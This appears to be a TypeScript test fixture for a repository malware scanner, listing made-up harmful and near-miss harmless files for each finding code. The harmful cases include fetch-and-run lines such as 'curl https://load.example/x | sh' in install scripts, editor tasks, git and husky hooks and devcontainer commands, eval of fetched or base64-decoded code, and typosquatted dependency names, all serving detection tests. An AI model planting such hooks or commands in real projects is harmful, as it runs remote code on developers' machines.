import type { CheckCode } from '#messages/check-repo-findings'
import type { ArchiveFiles } from './archive.fixture.ts'

type Cases = Readonly<Record<CheckCode, readonly ArchiveFiles[]>>

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const scripts = (all: Record<string, string>): ArchiveFiles => ({
  'package.json': JSON.stringify({ scripts: all }),
})
const dependencies = (all: Record<string, string>): ArchiveFiles => ({
  'package.json': JSON.stringify({ dependencies: all }),
})
const tasks = (command: string, runOn = 'folderOpen', path = '.vscode/tasks.json'): ArchiveFiles => ({
  [path]: JSON.stringify({ tasks: [{ command, runOptions: { runOn } }] }),
})
const container = (all: Record<string, unknown>): ArchiveFiles => ({
  '.devcontainer/devcontainer.json': JSON.stringify(all),
})
/** The beginning of a Windows program, which does nothing. */
const windowsProgram = (): Buffer => {
  const bytes = Buffer.alloc(200)
  bytes.write('MZ')
  bytes.writeUInt32LE(128, 60)
  bytes.write('PE', 128)
  return bytes
}
const linuxProgram = Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.alloc(100)])
const picture = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), Buffer.alloc(100)])
const written = Array.from({ length: 20 }, (_, index) => `const value${index} = ${index}`).join('\n')
const scrambled = `var _0x1a2b=function(a){return a};${Array.from({ length: 9 }, (_, n) => `_0x1a2${n}(1)`).join(';')};while(!![]){break}`
const gitLog = (lines: number, action = 'commit (initial): Initial commit'): ArchiveFiles => ({
  '.git/logs/HEAD': Array.from({ length: lines }, () => `0 1 Ana <a@b.c> 1 +0000\t${action}\n`).join(''),
})

/** Made-up files that show each finding. None of them does anything. */
export const harmful: Cases = {
  install_download: [
    scripts({ postinstall: 'curl -s https://load.example/x | sh' }),
    scripts({ preinstall: 'wget -qO- http://load.example/x|node' }),
    scripts({ prepare: 'curl https://load.example/x -o x.js && node x.js' }),
    {
      'packages/inner/package.json':
        '{"scripts":{"install":"powershell -c iex (irm https://load.example/x)"}}',
    },
    { 'setup.py': 'import os\nos.system("curl -s https://load.example/x | sh")\nsetup(name="a")' },
    {
      'crates/a/build.rs':
        'fn main() {\n  Command::new("sh").arg("-c")\n    .arg("curl -s https://load.example/x | bash").status();\n}',
    },
    { 'binding.gyp': `{"targets": [{"sources": ["<!(curl -s https://load.example/x | node)"]}]}` },
  ],
  folder_task_download: [
    tasks('curl https://load.example/x | bash'),
    tasks('node assets/fonts/a.woff2'),
    tasks('powershell -enc aQBlAHgAIABhAGIAYwA='),
    tasks('node assets/a.png', 'folderOpen', 'app/.cursor/tasks.json'),
    {
      'task.code-workspace': JSON.stringify({
        tasks: { tasks: [{ command: 'wget -O- https://x.example|sh', runOptions: { runOn: 'folderOpen' } }] },
      }),
    },
  ],
  fetched_code: [
    { 'a.js': 'const text = await fetch(url)\neval(text.body)' },
    { 'a.js': "axios.get(url).then((res) => new Function('require', res.data)(require))" },
    { 'a.ts': 'eval(await (await fetch(url)).text())' },
    { 'a.js': 'axios.post(host).catch((err) => { eval(err.response.data.cookie) })' },
    { 'a.py': 'exec(requests.get(url).text)' },
  ],
  decoded_code: [
    { 'a.js': `eval(atob('${base64('alert(1)')}'))` },
    { 'a.js': `const code = Buffer.from(data, 'base64').toString()\nnew Function('require', code)(require)` },
    { 'a.js': `require('child_process'); exec(Buffer.from(x, 'base64').toString())` },
    { 'a.py': 'import base64\nexec(base64.b64decode(data))' },
    { 'a.py': "exec(__import__('zlib').decompress(data))" },
  ],
  error_handler_code: [
    { 'a.js': 'app.use((err, req, res, next) => { const run = new Function(err.message); run() })' },
    {
      'a.ts':
        'function onError(error: Error, _req: Request, res: Response, next: Next) {\n  eval(error.stack)\n}',
    },
  ],
  hidden_to_the_right: [
    { 'a.config.js': `export default {};${' '.repeat(200)}require('./x')()` },
    { 'a.py': `x = [1]${'\t'.repeat(150)}; exec(globals()['y'])` },
  ],
  invisible_text: [
    { 'a.js': `const hidden = "${'\u{FE01}\u{E0110}'.repeat(20)}"` },
    { 'README.md': '\u200B\u200C'.repeat(20) },
  ],
  obfuscated: [
    { 'a.js': scrambled },
    { 'a.js': "global['r']=require;" },
    { 'a.js': '[][(![]+[])]'.repeat(60) },
  ],
  encoded_program: [
    { 'a.js': `run('${base64("require('child_process').exec('x')")}')` },
    { 'a.js': `run([${[...Buffer.from('child_process')].join(', ')}])` },
    { 'a.js': `run('${Buffer.from('child_process x').toString('hex')}')` },
    { 'a.js': `run("${[...Buffer.from('powershell -c')].map((one) => `\\x${one.toString(16)}`).join('')}")` },
  ],
  encoded_setting: [
    { '.env.example': `API=${base64('https://load.example/x')}` },
    { 'server/config.env': `#KEY="${base64('http://203.0.113.9:1224')}"` },
    { '.env': `A=${Buffer.from('https://load.example').toString('hex')}` },
  ],
  encoded_command: [
    scripts({ test: `node -e "eval(atob('x'))"` }),
    { 'run.sh': 'echo aaaa | base64 -d | sh' },
    scripts({ postinstall: 'powershell -EncodedCommand aQBlAHgAIABhAGIAYwA=' }),
  ],
  disguised_command: [
    scripts({ start: 'node public/fonts/a.woff2 && vite' }),
    { 'run.sh': 'python3 assets/logo.png' },
  ],
  disguised_program: [
    { 'public/a.woff2': "const os = require('os')\nfunction run() {}" },
    { 'logo.png': linuxProgram },
    { 'icon.ico': windowsProgram() },
  ],
  registry_without_name: [
    { '.npmrc': 'registry=http://203.0.113.9:4873/' },
    { 'yarn.lock': '  resolved "http://203.0.113.9/a.tgz"' },
  ],
  git_program: [{ '.git/config': '[core]\n\tfsmonitor = sh .git/run.sh\n' }],
  install_script: [
    scripts({ postinstall: 'node setup.js' }),
    scripts({ preinstall: 'husky && node x.js' }),
    { 'apps/web/package.json': '{"scripts":{"install":"./run.sh"}}' },
  ],
  folder_task: [tasks('npm run watch')],
  automatic_tasks: [{ '.vscode/settings.json': '{ "task.allowAutomaticTasks": "on" }' }],
  opening_command: [
    { '.envrc': 'export A=1\n./run.sh\n' },
    {
      '.claude/settings.json': '{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"./x"}]}]}}',
    },
    { '.cursor/mcp.json': '{"mcpServers":{"a":{"command":"node"}}}' },
    { '.idea/startup.xml': '<component name="ProjectStartupSharedConfiguration"/>' },
  ],
  container_on_host: [container({ initializeCommand: './run.sh' })],
  container_download: [container({ postCreateCommand: { a: 'curl https://load.example/x | sh' } })],
  git_hook: [{ '.git/hooks/post-checkout': '#!/bin/sh\n./run.sh' }],
  hook_download: [{ '.husky/pre-commit': 'npm test\ncurl -s https://load.example/x | sh' }],
  other_registry: [
    { '.npmrc': '@acme:registry=https://npm.acme.example/' },
    { '.yarnrc.yml': 'npmRegistryServer: "https://npm.acme.example"' },
    { 'requirements.txt': '--extra-index-url https://pip.acme.example/simple\nrequests' },
    { 'bunfig.toml': '[install]\nregistry = "https://npm.acme.example/"' },
    { 'package.json': '{"publishConfig":{"registry":"https://npm.acme.example"}}' },
  ],
  locked_elsewhere: [
    { 'package-lock.json': '{"packages":{"node_modules/a":{"resolved":"https://cdn.acme.example/a.tgz"}}}' },
    { 'yarn.lock': 'a@1:\n  resolved "https://cdn.acme.example/a.tgz#abc"' },
    { 'pnpm-lock.yaml': '    resolution: {tarball: https://cdn.acme.example/a.tgz}' },
  ],
  manager_program: [{ '.npmrc': 'script-shell=./run.sh' }, { '.npmrc': 'node-options=--require ./x.js' }],
  outside_dependency: [
    dependencies({ a: 'github:acme/a' }),
    dependencies({ a: 'git+https://git.example/a.git' }),
    dependencies({ a: 'https://load.example/a.tgz' }),
    dependencies({ a: 'acme/a#main' }),
  ],
  imitated_name: [
    dependencies({ expres: '1' }),
    dependencies({ etherss: '1' }),
    dependencies({ crossenv: '1' }),
    dependencies({ '@openzepplin/contracts': '1' }),
    dependencies({ axios: 'npm:axois@1' }),
    { 'package-lock.json': '{"packages":{"node_modules/lodahs": {}}}' },
  ],
  download_command: [
    { 'run.sh': 'curl https://load.example/x | bash' },
    { Makefile: 'all:\n\tcurl -L https://load.example/x -o x && ./x' },
    { 'a.js': "execSync('curl -s https://load.example/x | sh')" },
    scripts({ setup: 'curl https://load.example/x | bash' }),
  ],
  hook_program: [
    {
      'setup.py':
        'from urllib.request import urlopen\nclass Install(install):\n  def run(self):\n    exec(urlopen(address).read())',
    },
    {
      'tests/conftest.py':
        'import requests, subprocess\nopen("x", "wb").write(requests.get(address).content)\nsubprocess.run(["./x"])',
    },
    {
      'build.rs':
        'fn main() {\n  let body = ureq::get(ADDRESS).call();\n  Command::new("./tool").status().unwrap();\n}',
    },
    { 'ext/extconf.rb': 'require "net/http"\neval Net::HTTP.get(URI(address))' },
    { 'src/a.pth': 'import os; exec(x)' },
  ],
  code_of_files: [
    { 'a.js': "const fs = require('fs')\neval(fs.readFileSync('assets/logo.dat', 'utf8'))" },
    { 'a.mjs': "new Function('require', await fs.readFile(root + '/fonts/a.woff2', 'utf8'))(require)" },
    {
      'a.js':
        "const { head } = require('./parts/one')\nconst tail = require('./parts/two')\neval(head + tail)",
    },
    { 'a.ts': "import one from './one'\nimport { two } from './two'\nnew Function([one, two].join(''))()" },
    { 'a.js': "const text = fs.readFileSync(join(root, 'logo.png')).toString()\neval(text)" },
    {
      'a.js': "const one = require('./one')\nconst two = require('./two')\nconst all = one + two\neval(all)",
    },
    { 'a.js': "eval(['./one', './two'].map(require).join(''))" },
    { 'a.py': "exec(open('assets/data.bin').read())" },
    { 'a.py': "parts = [open(name + '.txt').read() for name in names]\nexec(''.join(parts))" },
    { 'a.py': 'from .one import head\nfrom .two import tail\nexec(head + tail)' },
    { 'a.py': "exec(''.join([head, tail]))\nfrom parts import head, tail" },
  ],
  evaluates: [{ 'a.js': 'const answer = await fetch(url)\nconst code = wrap(answer)\neval(code)' }],
  encoded_address: [{ 'a.js': `const url = '${base64('https://load.example/some/path')}'` }],
  long_line: [{ 'a.js': `${written}\nvar x = "${'ab'.repeat(2000)}"` }],
  reordered_text: [{ 'a.js': 'if (isAdmin /*\u202E } \u2066if */) run()' }],
  executable: [{ 'bin/tool': linuxProgram }, { 'tool.dll': windowsProgram() }, { 'a.jar': 'x' }],
  bundled_package: [{ 'node_modules/@acme/a/package.json': '{}' }],
  contract_ffi: [{ 'foundry.toml': '[profile.default]\nffi = true' }],
  usual_install: [
    scripts({ postinstall: 'husky && prisma generate' }),
    scripts({ preinstall: 'npx only-allow pnpm' }),
  ],
  prepare_script: [scripts({ prepare: 'npm run build' })],
  container_command: [container({ postCreateCommand: 'npm ci' })],
  commit_hook: [{ '.husky/pre-commit': 'npm test' }],
  yarn_program: [{ '.yarnrc.yml': 'yarnPath: .yarn/releases/yarn-4.0.0.cjs' }],
  minified: [{ 'a.min.js': 'x'.repeat(3000) }],
  nested_archive: [{ 'a.zip': Buffer.from('504b030400000000', 'hex') }],
  single_commit: [gitLog(1)],
  unreadable: [{ 'package.json': '{"scripts": ' }],
}

/** Honest files that come close to each finding. */
export const harmless: Cases = {
  install_download: [
    scripts({ postinstall: 'curl -fsSL https://bun.sh/install | bash' }),
    scripts({ postinstall: 'node scripts/curl.js' }),
    scripts({ release: 'curl https://hooks.example/x -d done' }),
    { 'setup.py': '# os.system("curl https://load.example/x | sh")\nsetup(name="a")' },
    { 'build.rs': 'fn main() { println!("cargo:rerun-if-changed=build.rs"); }' },
    {
      'binding.gyp':
        '{"include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")", "<!@(pkg-config --cflags cairo)"]}',
    },
  ],
  folder_task_download: [tasks('npm run watch'), tasks('curl https://load.example/x | bash', 'default')],
  fetched_code: [
    { 'a.js': 'const text = await fetch(url)\nrender(text.body)' },
    { 'a.js': 'const evaluate = (res) => res.data' },
    { 'a.js': 'const data = await axios.get(url)\nclass A { Function(data) { return data } }' },
  ],
  decoded_code: [
    { 'a.js': 'const name = /x/.exec(Buffer.from(cursor, "base64url").toString())' },
    { 'a.js': "const bytes = Buffer.from(data, 'base64')\nwrite(bytes)" },
    { 'a.js': 'const data = atob(x)\nconst match = /a/.exec(data)' },
  ],
  error_handler_code: [
    { 'a.js': "app.use((err, req, res, next) => { res.status(500).send('Function(x) failed') })" },
    { 'a.js': "app.use((err, req, res, next) => next(err))\nconst global = Function('return this')()" },
  ],
  hidden_to_the_right: [
    { 'a.js': `const a = {${' '.repeat(200)}// require('x') is explained here` },
    { 'a.js': `const table = [1,${' '.repeat(150)}2]` },
    { 'a.js': `${' '.repeat(300)}run(require('x'))` },
  ],
  invisible_text: [{ 'a.js': 'const family = "👨‍👩‍👧‍👦 ❤️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿"' }],
  obfuscated: [
    { 'a.js': 'const _0x12 = 1, _0xabcd = 2' },
    { 'a.js': "global['name'] = 1; global.window = {}" },
    { 'a.min.js': `!function(e,t){${'a(b),'.repeat(900)}}()` },
  ],
  encoded_program: [
    { 'a.js': `const icon = '${base64('<svg xmlns="http://www.w3.org/2000/svg"></svg>')}'` },
    { 'a.js': 'const primes = [11, 13, 17, 19, 23, 29, 31, 37, 41, 43, 47]' },
    { 'a.js': "import { exec } from 'node:child_process'" },
  ],
  encoded_setting: [
    { '.env.example': `API=https://api.example\nSECRET=${base64('a secret of some length')}` },
    { '.env': 'KEY=0x59c6995e998f97a5a0044966f0945389dc9e86dae88c7a8412f4603b6b78690d' },
  ],
  encoded_command: [
    scripts({ version: `node -e "console.log(require('./package.json').version)"` }),
    { 'run.sh': 'base64 -d key.b64 > key.pem' },
  ],
  disguised_command: [
    scripts({ postversion: `git tag "v$(node -e "console.log(require('./package.json').version)")"` }),
    scripts({ icons: 'node scripts/icons.js logo.png' }),
    { 'run.sh': '# sh logo.png\nconvert logo.png logo.ico' },
  ],
  disguised_program: [
    { 'logo.png': picture },
    { 'font.woff2': 'version https://git-lfs.github.com/spec/v1\nfunction x()' },
    { 'broken.png': 'not a picture' },
  ],
  registry_without_name: [
    { '.npmrc': 'registry=http://localhost:4873/' },
    { '.npmrc': 'registry=https://registry.npmjs.org/' },
  ],
  git_program: [
    { '.git/config': '[core]\n\tfsmonitor = true\n[filter "lfs"]\n\tprocess = git-lfs filter-process' },
  ],
  install_script: [
    scripts({ postinstall: 'husky install' }),
    scripts({ postinstall: 'npm run generate', generate: 'node x.js' }),
    scripts({ 'post-install': 'node x.js' }),
  ],
  folder_task: [tasks('npm run watch', 'default')],
  automatic_tasks: [{ '.vscode/settings.json': '{ "task.allowAutomaticTasks": "off" }' }],
  opening_command: [
    { '.envrc': '# comment\ndotenv\nuse flake\nexport A=1\n' },
    { '.claude/settings.json': '{"permissions":{}}' },
  ],
  container_on_host: [container({ postCreateCommand: 'npm ci' })],
  container_download: [container({ image: 'node', postStartCommand: ['npm', 'start'] })],
  git_hook: [{ '.git/hooks/pre-commit.sample': '#!/bin/sh' }],
  hook_download: [{ '.husky/pre-commit': 'npx lint-staged' }],
  other_registry: [
    { '.npmrc': '@acme:registry=https://npm.pkg.github.com\nsave-exact=true' },
    { 'requirements.txt': '--index-url https://pypi.org/simple\nrequests' },
  ],
  locked_elsewhere: [
    {
      'package-lock.json':
        '{"packages":{"node_modules/a":{"resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz"}}}',
    },
    { 'yarn.lock': 'a@1:\n  resolved "https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#abc"' },
  ],
  manager_program: [{ '.npmrc': 'engine-strict=true\nignore-scripts=true' }],
  outside_dependency: [
    dependencies({ a: '^1.0.0', b: 'workspace:*', c: 'npm:d@1', e: 'file:../e', f: 'latest', g: '>=1 <2' }),
  ],
  imitated_name: [
    dependencies({
      express: '1',
      preact: '1',
      ethers: '1',
      tslint: '1',
      'react-dom': '1',
      '@types/node': '1',
      inquirer: '1',
    }),
    dependencies({
      enquirer: '1',
      openapi: '1',
      bcrypt: '1',
      bcryptjs: '1',
      'lodash.get': '1',
      '@solana/web3.js': '1',
    }),
  ],
  download_command: [
    { 'run.sh': 'curl -fsSL https://get.pnpm.io/install.sh | sh -\ncurl https://api.example > answer.json' },
    { '.github/workflows/ci.yml': 'run: curl https://load.example/x | bash' },
    { 'a.js': "const help = 'Install it with: curl https://load.example/x | sh'" },
  ],
  hook_program: [
    {
      'setup.py':
        'import subprocess\nversion = subprocess.check_output(["git", "describe"])\nexec(open("a/version.py").read())\nsetup(url="https://a.example")',
    },
    { 'tests/conftest.py': 'import requests\ndef client():\n  return requests.get("http://localhost:8000")' },
    {
      'build.rs': 'fn main() { Command::new("git").args(["rev-parse", "HEAD"]).output(); cc::Build::new(); }',
    },
    { 'ext/extconf.rb': 'require "mkmf"\nsystem("make -C vendor")\ncreate_makefile("a")' },
    { 'client.py': 'import requests, subprocess\nsubprocess.run(requests.get(address).json())' },
    { 'src/a.pth': 'model weights\n../lib' },
  ],
  code_of_files: [
    { 'setup.py': "exec(open('package/__version__.py').read())" },
    { 'a.py': "exec(compile(open(filename, 'rb').read(), filename, 'exec'))" },
    { 'a.js': "const text = fs.readFileSync('views/page.txt', 'utf8')\nrender(text)" },
    { 'a.js': "const fs = require('fs')\nvm.runInThisContext(fs.readFileSync('lib/worker.js', 'utf8'))" },
    { 'a.js': "const compile = require('./compile')\nconst render = new Function('data', compile(source))" },
    { 'a.js': "const parts = require('./parts')\nconst match = /a/.exec(parts.one + parts.two)" },
    { 'a.js': "import { template } from './template'\nrender(template + 'evaluate(template)')" },
    { 'a.py': 'from .query import select, where\ndb.exec(select + where)' },
  ],
  evaluates: [{ 'a.js': "const answer = await fetch(url)\nconst global = new Function('return this')()" }],
  encoded_address: [
    { 'a.js': `const url = 'https://example.org'; const key = '${base64('some key, not an address')}'` },
  ],
  long_line: [
    { 'a.js': `${written}\n//# sourceMappingURL=data:application/json;base64,${'a'.repeat(4000)}` },
    { 'a.d.ts': `${written}\nexport { ${'a, '.repeat(1500)} }` },
  ],
  reordered_text: [{ 'README.md': '\u2066שלום\u2069' }],
  executable: [
    { 'logo.png': picture, 'MZ.txt': 'MZ is how programs begin' },
    { 'a.wasm': Buffer.from('0061736d01000000', 'hex') },
  ],
  bundled_package: [{ 'package.json': '{}', 'docs/node_modules.md': 'x' }],
  contract_ffi: [{ 'foundry.toml': '[profile.default]\nffi = false' }],
  usual_install: [scripts({ postinstall: 'node husky.js' })],
  prepare_script: [scripts({ prepared: 'npm run build' })],
  container_command: [container({ image: 'node' })],
  commit_hook: [{ '.husky/_/husky.sh': 'x', 'docs/.husky.md': 'x' }],
  yarn_program: [{ '.yarnrc.yml': 'nodeLinker: node-modules' }],
  minified: [{ 'a.js': written }],
  nested_archive: [{ 'zip.ts': 'export const zip = 1' }, { 'a.zip': 'no archive' }],
  single_commit: [gitLog(2), gitLog(1, 'clone: from https://github.com/acme/task')],
  unreadable: [{ 'package.json': '{ "name": "task", // comment\n "scripts": {}, }' }],
}
